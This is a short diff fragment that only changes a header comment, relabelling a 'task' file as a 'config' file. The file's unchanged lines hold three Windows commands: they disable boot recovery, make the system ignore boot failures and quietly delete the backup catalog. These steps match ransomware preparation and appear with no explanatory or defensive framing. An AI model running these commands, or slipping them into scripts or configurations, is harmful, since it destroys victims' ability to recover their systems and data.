@@ -1,4 +1,4 @@
-# task 4096 v4
+# config 8897 v4
 bcdedit /set {default} recoveryenabled No
 bcdedit /set {default} bootstatuspolicy ignoreallfailures
 wbadmin delete catalog -quiet
